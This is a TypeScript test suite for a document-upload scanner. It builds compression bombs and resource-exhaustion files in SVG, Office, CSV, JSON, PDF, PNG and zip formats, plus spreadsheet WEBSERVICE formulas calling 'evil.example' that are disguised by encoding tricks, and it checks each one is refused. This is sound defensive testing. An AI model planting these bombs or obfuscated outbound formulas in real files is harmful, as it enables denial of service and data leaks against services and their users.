import { createHash } from 'node:crypto'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { crc32, deflateSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { documentKinds } from '#common/uploads.ts'
import { DocumentError } from '../office-files/document-problem.ts'
import {
  certificateTemplate,
  alterPackage,
  withMarkup,
} from '../documents/word-template.fixture.ts'
import { inWorker, stopWorker } from '../documents/worker.ts'
import { officePackage, picture, repeatedInArchive } from './sample-files.fixture.ts'

type Bytes = Uint8Array | Promise<Uint8Array>
const MB = 2 ** 20
/** Time of the worker: longer than in the product, because other tests run at the same time. */
const timeoutMs = 60_000
let folder: string
let docx: Uint8Array
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'plimsoll-hostile-'))
  docx = await certificateTemplate()
})
afterAll(async () => {
  await stopWorker()
  await rm(folder, { recursive: true })
})
/** What the worker says of a file, by its codes; 'timeout' when it had to be ended. */
async function findingsOf(name: string, made: Bytes): Promise<string[]> {
  const path = join(folder, 'file')
  await writeFile(path, await made)
  const question = { name, declared: '', kinds: [...documentKinds, 'json' as const], max: 100 * MB }
  return inWorker('judge', [path, question], timeoutMs).then(
    ({ kind }) => [kind],
    (error: unknown) => {
      if (!(error instanceof DocumentError)) throw error
      return error.issues.map(({ code }) => code)
    },
  )
}
/** Letters that do not pack well. */
const hash = (n: number) => createHash('md5').update(String(n)).digest('hex').slice(0, 16)
const latin = (text: string) => Buffer.from(text, 'latin1')
const sheet = (inner: string | Uint8Array) =>
  officePackage('xlsx', { 'xl/worksheets/sheet1.xml': inner })
const utf16be = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le').swap16()
const book = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const packedObjects = (inner: Buffer, places: string) => {
  const stream = deflateSync(Buffer.concat([latin(places), inner]))
  return Buffer.concat([
    latin(
      `%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n4 0 obj<</Type/ObjStm/N 1/First ${places.length}/Filter/FlateDecode/Length ${stream.length}>>stream\n`,
    ),
    stream,
    latin('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF'),
  ])
}
/** A PNG with a chunk of its own in front of the picture. */
async function withChunk(type: string, data: Buffer): Promise<Buffer> {
  const png = Buffer.from(await picture('png'))
  const body = Buffer.concat([latin(type), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([png.subarray(0, 33), length, body, sum, png.subarray(33)])
}
const useBomb =
  '<svg xmlns="http://www.w3.org/2000/svg"><defs><g id="a0"><rect width="1" ' +
  `height="1"/></g>${Array.from(
    { length: 20 },
    (_, i) => `<g id="a${i + 1}">${`<use href="#a${i}"/>`.repeat(10)}</g>`,
  ).join('')}</defs><use ` +
  'href="#a20"/></svg>'

describe('compression bombs and expensive files are refused for their own reason, not by the timeout', () => {
  test.each<[what: string, name: string, codes: string[], make: () => Bytes]>([
    ['drawings that repeat each other', 'a.svg', ['svgNotTaken'], () => latin(useBomb)],
    [
      'the same drawing in a Word file',
      'a.docx',
      ['embedded'],
      () => alterPackage(docx, { 'word/media/image9.svg': latin(useBomb) }),
    ],
    [
      'the same in slides',
      'a.pptx',
      ['embedded'],
      () => officePackage('pptx', { 'ppt/media/image1.svg': useBomb }),
    ],
    [
      'a packed drawing',
      'a.pptx',
      ['embedded'],
      () => officePackage('pptx', { 'ppt/media/image1.svgz': deflateSync(useBomb) }),
    ],
    [
      'Word: tags 100,000 deep',
      'a.docx',
      ['bomb'],
      () =>
        alterPackage(docx, {
          'word/footer9.xml': latin(`${'<w>'.repeat(100_000)}${'</w>'.repeat(100_000)}`),
        }),
    ],
    [
      'Word: millions of tags',
      'a.docx',
      ['bomb'],
      () =>
        alterPackage(docx, {
          'word/footer9.xml': latin(`<w>${'<a/><b/>'.repeat(1_000_000)}</w>${' '.repeat(10)}`),
        }),
    ],
    [
      'Excel: a billion laughs',
      'a.xlsx',
      ['doctype'],
      () => sheet('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    ],
    [
      'Excel: the same in UTF-16',
      'a.xlsx',
      ['doctype'],
      () => sheet(utf16be('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')),
    ],
    [
      'Excel: a code that hides text',
      'a.xlsx',
      ['badXml'],
      () => sheet('<?xml version="1.0" encoding="UTF-7"?><a/>'),
    ],
    [
      'Excel: tags that never end',
      'a.xlsx',
      ['badXml'],
      () => sheet(Array.from({ length: 500_000 }, (_, i) => `<f a${hash(i)} `).join('')),
    ],
    [
      'Excel: text marks that never end',
      'a.xlsx',
      ['badXml'],
      () =>
        sheet(`<a b="${Array.from({ length: 500_000 }, (_, i) => `<fill ${hash(i)} `).join('')}`),
    ],
    ['Excel: tags too deep', 'a.xlsx', ['bomb'], () => sheet('<a>'.repeat(1_000))],
    ['Excel: a packed part of 40 MB', 'a.xlsx', ['bomb'], () => sheet(Buffer.alloc(40 * MB, 32))],
    ['CSV: lines without anything', 'a.csv', ['csv'], () => Buffer.alloc(19 * MB, 10)],
    ['CSV: blanks behind commas', 'a.csv', ['csv'], () => latin(`,${' '.repeat(18 * MB)}`)],
    ['CSV: a cell of 18 MB', 'a.csv', ['csv'], () => latin(`=${'a'.repeat(18 * MB)}`)],
    [
      'JSON: lists two million deep',
      'a.json',
      ['badJson'],
      () => latin('['.repeat(2 * MB) + ']'.repeat(2 * MB)),
    ],
    [
      'JSON: a text that never ends',
      'a.json',
      ['badJson'],
      () => latin(`"${'\\"'.repeat(2 * MB)}`),
    ],
    [
      'PDF: objects that share their bytes',
      'a.pdf',
      ['bomb'],
      () => packedObjects(latin(`[${'1 '.repeat(5 * MB)}]`), '5 0 '.repeat(200_000)),
    ],
    [
      'PDF: packed 1 to 1,000',
      'a.pdf',
      ['bomb'],
      () => packedObjects(Buffer.alloc(80 * MB, 32), '5 0 '),
    ],
    [
      'PDF: a stream that looks like objects everywhere',
      'a.pdf',
      ['pdf'],
      () =>
        Buffer.concat([
          latin('%PDF-1.4\n1 0 obj<</Type/Catalog/Length 31457280>>stream\n'),
          Buffer.alloc(30 * MB, 'obj'),
          latin('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF'),
        ]),
    ],
    [
      'PDF: brackets without end',
      'a.pdf',
      ['pdf', 'pdfHidden'],
      () => latin(`%PDF-1.4\n1 0 obj${'('.repeat(3 * MB)}endobj\n%%EOF`),
    ],
    [
      'PDF: dictionaries within dictionaries',
      'a.pdf',
      ['pdf'],
      () => latin(`%PDF-1.4\n1 0 obj${'<<'.repeat(5 * MB)}${'>>'.repeat(5 * MB)}endobj\n%%EOF`),
    ],
    [
      'PNG: text packed 1 to 1,000',
      'a.png',
      ['png', 'badPicture'],
      () => withChunk('zTXt', Buffer.concat([latin('a\0\0'), deflateSync(Buffer.alloc(100 * MB))])),
    ],
    [
      'PNG: a colour profile packed 1 to 1,000',
      'a.png',
      ['png', 'badPicture'],
      () => withChunk('iCCP', Buffer.concat([latin('a\0\0'), deflateSync(Buffer.alloc(100 * MB))])),
    ],
    [
      'archive: files that are too many when they are added up',
      'a.zip',
      ['bomb'],
      () => repeatedInArchive('a'.repeat(900_000), 400),
    ],
  ])(
    '%s',
    async (_, name, codes, make) => {
      const found = await findingsOf(name, make())
      expect(found).not.toContain('timeout')
      expect(codes).toContain(found[0])
    },
    90_000,
  )
})

describe('a formula or link that is encoded to evade a text search is found', () => {
  test.each<[what: string, name: string, code: string, make: () => Bytes]>([
    [
      'by character references',
      'a.xlsx',
      'formulaCall',
      () =>
        sheet(
          `<worksheet xmlns="${book}"><f>W&#69;BSERVICE&#x28;"http://evil.example")</f></worksheet>`,
        ),
    ],
    [
      'across a comment',
      'a.xlsx',
      'formulaCall',
      () =>
        sheet(
          `<worksheet xmlns="${book}"><f>WEB<!-- -->SERVICE("http://evil.example")</f></worksheet>`,
        ),
    ],
    [
      'in a part that is no markup by its name',
      'a.xlsx',
      'formulaCall',
      () =>
        sheet(
          `<worksheet xmlns="${book}"><f><![CDATA[WEBSERVICE("http://evil.example")]]></f></worksheet>`,
        ),
    ],
    [
      'in UTF-16',
      'a.xlsx',
      'formulaCall',
      () =>
        sheet(
          utf16be(
            `<worksheet xmlns="${book}"><f>WEBSERVICE("http://evil.example")</f></worksheet>`,
          ),
        ),
    ],
    [
      'behind a bracket in an attribute',
      'a.xlsx',
      'formulaCall',
      () =>
        sheet(
          `<worksheet xmlns="${book}"><f r=">">WEBSERVICE("http://evil.example")</f></worksheet>`,
        ),
    ],
    [
      'a program of slides by character references',
      'a.pptx',
      'macro',
      () =>
        officePackage('pptx', { 'ppt/slides/slide1.xml': '<a action="ppaction&#58;//program"/>' }),
    ],
    [
      'a picture from outside behind a bracket',
      'a.docx',
      'externalLink',
      () =>
        withMarkup(
          docx,
          '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" title="&gt;" alt=">" src="&#104;ttp://evil.example/a.png"/></w:pict></w:r></w:p>',
        ),
    ],
  ])('%s', async (_, name, code, make) => expect(await findingsOf(name, make())).toContain(code))
})

test('a Word file with drawings of plain shapes is accepted', async () => {
  const icon =
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 96 96"><defs><clipPath id="c"><rect width="9" height="9"/></clipPath></defs><g clip-path="url(#c)"><path d="M1 1h9" fill="#123"/></g></svg>'
  expect(
    await findingsOf('a.docx', alterPackage(docx, { 'word/media/image9.svg': latin(icon) })),
  ).toEqual(['docx'])
})
